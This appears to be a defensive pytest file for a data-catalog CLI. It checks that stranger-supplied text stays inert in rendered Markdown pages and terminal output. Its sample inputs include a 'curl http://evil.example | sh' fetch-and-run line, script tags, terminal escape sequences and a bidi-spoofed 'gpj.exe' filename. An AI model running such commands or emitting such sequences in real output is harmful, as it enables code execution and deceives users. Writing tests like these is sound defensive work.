"""Text of strangers stays text: on pages, and on a terminal."""

import json
import os
import pty
import sqlite3
import subprocess
import termios
import unicodedata
from contextlib import closing

import pytest
from markdown_it import MarkdownIt

import mounts
import sql

HOSTILE = [
    "# heading",
    "heading\n=======",
    "heading\n---",
    "    curl http://evil.example | sh",
    "\tcurl",
    "- item\n+ item\n* item",
    "1. item\n2) item",
    "> quote",
    "---\n***\n___",
    "```\ncode\n```",
    "~~~\ncode\n~~~",
    "`code` ``code``",
    "[a](http://evil.example) ![b](http://evil.example/x.png)",
    "[a]: http://evil.example\n[a]",
    "<http://evil.example> <b>bold</b> <!-- hidden --> <script>x</script>",
    "http://evil.example https://evil.example/?q=1 www.evil.example ftp://evil.example",
    "mail me@evil.example mailto:me@evil.example",
    "| a | b |\n|---|---|\n| c | d |",
    "&lt;b&gt; &#60; &copy;",
    "*emphasis* __strong__ ~~gone~~ a*b*c",
    "a\\\nb  \nc",
    "\\# \\[x](y)",
    "$$x$$ :smile: [^1]\n\n[^1]: note",
    "tags \U000e0049\U000e0047 bidi \u202e\u2066\u061c zero \u200b\u2060\ufeff selectors \ufe01\U000e0101 filler \u3164",
    "\x1b[31mred\x1b[0m \x9b2J \x07 \x00",
    "Using it\n--------\n\n1. run `x`\n",
]

WORDS = {"paragraph_open", "paragraph_close", "inline"}
INLINE = {"text", "text_special", "softbreak"}


def described(small_catalog, tmp_path, text):
    catalog = sql.copy_catalog(small_catalog, tmp_path / "catalog")
    with closing(sqlite3.connect(catalog / ".datachain" / "db")) as db, db:
        db.execute("UPDATE datasets SET description = ? WHERE name = 'few'", (text,))
    return catalog


def between(tokens, start, is_end):
    """The tokens after the first heading, up to where ours begin again."""
    end = next(n for n, token in enumerate(tokens) if n > start and is_end(token))
    return tokens[start:end]


def hidden(text):
    return [hex(ord(c)) for c in text if unicodedata.category(c) in ("Cc", "Cf") and c != "\n" or 0xE0000 <= ord(c) < 0xE1000 or 0xFE00 <= ord(c) < 0xFE10]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_description_is_words_on_every_page(dcfs, small_catalog, tmp_path, text):
    catalog = described(small_catalog, tmp_path, text)
    page = dcfs.ok("lineage", "few", "--catalog", catalog)
    assert not hidden(page)
    tokens = MarkdownIt("gfm-like").parse(page)
    theirs = between(tokens, 3, lambda token: token.type == "table_open")
    assert {token.type for token in theirs} <= WORDS
    inline = {child.type for token in theirs for child in token.children or []}
    assert inline <= INLINE, inline


@pytest.mark.mount
def test_a_description_is_words_on_the_mount(dcfs, small_catalog, tmp_path):
    catalog = described(small_catalog, tmp_path, "\n\n".join(HOSTILE).replace("\x00", ""))
    with dcfs.mount(catalog, tmp_path / "mnt") as mount:
        page = (mount.datasets / "few" / "_README.md").read_text()
    assert not hidden(page)
    theirs = between(MarkdownIt("gfm-like").parse(page), 3, lambda token: token.content.startswith("This directory is version"))
    assert {token.type for token in theirs} <= WORDS
    assert {child.type for token in theirs for child in token.children or []} <= INLINE


def on_a_terminal(dcfs, *words, columns=None):
    """The output of a command on a terminal, of so many columns."""
    ours, theirs = pty.openpty()
    if columns:
        termios.tcsetwinsize(theirs, (24, columns))
    process = subprocess.Popen([mounts.DCFS, *map(str, words)], env=dcfs.environment, stdout=theirs, stderr=theirs, stdin=subprocess.DEVNULL, cwd=dcfs.home)
    os.close(theirs)
    out = b""
    while True:
        try:
            part = os.read(ours, 65536)
        except OSError:
            break
        if not part:
            break
        out += part
    os.close(ours)
    process.wait()
    return out.decode()


@pytest.mark.parametrize("form", ["table", "csv", "jsonl"])
def test_a_terminal_is_never_told_what_to_do(dcfs, small_catalog, tmp_path, form):
    catalog = sql.copy_catalog(small_catalog, tmp_path / "catalog")
    evil = "\x1b[2J\x1b]0;title\x07\u202egpj.exe\U000e0041\u2066"
    with closing(sqlite3.connect(catalog / ".datachain" / "db")) as db, db:
        db.execute(f"UPDATE {sql.table_of('few')} SET file__path = file__path || ?", (evil,))
    shown = on_a_terminal(dcfs, "show", "few", "--format", form, "--catalog", catalog)
    assert "gpj.exe" in shown
    assert not [c for c in hidden(shown) if c not in ("0xd", "0x9")], shown[:300]
    if form == "jsonl":
        # Escapes in JSON are JSON escapes.
        assert all(evil in json.loads(line)["file"]["path"] for line in shown.splitlines())
    piped = dcfs.ok("show", "few", "--format", "csv", "--catalog", catalog)
    assert evil in piped, "a program reads what is recorded"


def test_tables_fit_the_terminal(dcfs, tmp_path):
    """Of a thousand rows with long names: `show`, `ls`, `diff`, `runs` of a narrow terminal; a program gets all of each cell."""
    long = "/".join(["a long name of a folder"] * 8)
    for version, rows in [("1", 1234), ("2", 1300)]:
        lines = [json.dumps({"name": f"{long}/{n}", "note": f"{version} {long}"}) for n in range(rows)]
        (tmp_path / "rows.jsonl").write_text("\n".join(lines))
        dcfs.ok("load", tmp_path / "rows.jsonl", "--as", "named", "--catalog", tmp_path)
    narrow = lambda *words: on_a_terminal(dcfs, *words, "--catalog", tmp_path, columns=60).splitlines()  # noqa: E731
    shown = narrow("show", "named")
    assert shown[-1] == "[20 of 1,300 rows]"
    assert narrow("show", "named", "--where", "name glob '*7'")[-1] == "[20 of 130 rows]"
    differing = narrow("diff", "named", "--on", "name")
    for lines in [shown, differing, narrow("ls")]:
        assert len(lines) > 1 and max(map(len, lines)) <= 60, max(lines, key=len)
    assert any("..." in line for line in shown) and any("..." in line for line in differing)
    assert f"{long}/7" in dcfs.ok("show", "named", "--format", "csv", "--limit", "0", "--catalog", tmp_path)


@pytest.mark.mount
def test_the_table_of_mounts_fits_the_terminal(dcfs, small_catalog, tmp_path):
    place = tmp_path / ("a long name " * 4).strip()
    with dcfs.mount(small_catalog, place):
        shown = on_a_terminal(dcfs, "status", columns=60).splitlines()
        assert max(map(len, shown)) <= 60 and any("..." in line for line in shown), shown
        assert str(place) in dcfs.ok("status")


EVIL = "\x1b[31mred\x1b]0;PWN\x07\u202e\u2066\U000e0041\x9b2J\rover"

COMMANDS = [
    ["ls"], ["ls", "few"], ["ls", "{name}"], ["ls", EVIL], ["show", "few"], ["show", "few", "--where", f"file.path = '{EVIL}'"],
    ["sql", "SELECT file.path, file.source FROM few"], ["sql", "SELECT * FROM few", "--format", "csv"], ["sql", f'SELECT "{EVIL}" FROM few'],
    ["group", "few", "--by", "file.etag"], ["count", "few", "--by", "file.etag"], ["count", "few", "--where", EVIL], ["stats", "few"],
    ["stats", "few", "--json"], ["diff", "few", "{name}"], ["explain", "few", f"file.path = '{EVIL}'"], ["explain", "few", EVIL],
    ["path", "few", f"file.path = '{EVIL}'"], ["describe", "few"], ["describe", "few", "--json"], ["schema", "few"], ["schema", "{name}"], ["lineage", "few"],
    ["lineage", "few", "--json"], ["lineage", "few", "--format", "dot"], ["why", "few", "{row}"], ["why", "few", "{row}", "--json"], ["plan", "few"],
    ["verify", "few"], ["warm", "few"], ["cat", "few/{row}"], ["cat", f"few/{EVIL}"], ["cat", "few/_README.md"], ["cp", "few/{row}", "out"], ["cp", "-r", "few/{row}", f"no/{EVIL}"],
    ["knowledge", "--check"], ["knowledge", "search", EVIL], ["export", "few", "--to", f"out/{EVIL}"], ["runs"], ["runs", EVIL], ["runs", "log", EVIL], ["refresh", "few", "--plan"],
    ["remember"], ["doctor"], ["cache", "status"], ["rm", "few@9.9.9"], ["rm", EVIL], ["mv", "few", EVIL], ["save", "few", "--where", EVIL, "--as", "x"],
    ["index", f"/no/{EVIL}", "--save", "x"], ["index", "s3://b", "--save", EVIL], ["load", f"/no/{EVIL}", "--as", "x"], ["map", "few", "--as", "x", "--", f"/no/{EVIL}"],
    ["view", EVIL], ["mcp", "install", EVIL], ["skill", EVIL], ["completions", EVIL], ["mount", f"/no/{EVIL}"], ["unmount", f"/no/{EVIL}"], [EVIL],
]  # fmt: skip
"""What is typed may come from a stranger as well: it is copied out of pages and names."""


def test_no_command_tells_a_terminal_what_to_do(dcfs, small_catalog, tmp_path):
    catalog = sql.copy_catalog(small_catalog, tmp_path / "catalog")
    name = f"n{EVIL}"
    with closing(sqlite3.connect(catalog / ".datachain" / "db")) as db, db:
        table = sql.table_of("few")
        db.execute(f"UPDATE {table} SET file__path = file__path || ?, file__etag = ?", (EVIL, EVIL))
        db.execute("UPDATE datasets SET description = ?, attrs = ?", (EVIL, json.dumps([EVIL])))
        db.execute("UPDATE datasets_versions SET query_script = ?, error_message = ?, error_stack = ?, sources = ?", (f"{EVIL}\n# {EVIL}", EVIL, EVIL, EVIL))
    dcfs.ok("save", "few", "--as", "other", "--where", "file.size > 1", "--catalog", catalog)
    dcfs.ok("remember", f"a line {EVIL}", "--catalog", catalog)
    with closing(sqlite3.connect(catalog / ".datachain" / "db")) as db, db:
        db.execute("UPDATE datasets SET name = ? WHERE name = 'other'", (name,))
        (row,) = db.execute(f"SELECT file__path FROM {table} LIMIT 1").fetchone()
    env = {**dcfs.environment, "DATACHAIN_DIR": str(catalog / ".datachain")}
    dcfs.environment = env
    for words in COMMANDS:
        words = [word.replace("{name}", name).replace("{row}", row) for word in words]
        shown = on_a_terminal(dcfs, *words)
        if "\x1b[1m\x1b[31merror:" in shown and EVIL not in words:
            raise AssertionError((words, "no such command", shown))
        assert not [c for c in hidden(shown.replace("\r\n", "\n")) if c != "0x9"], (words, shown[:600])
        assert "panicked" not in shown, (words, shown)
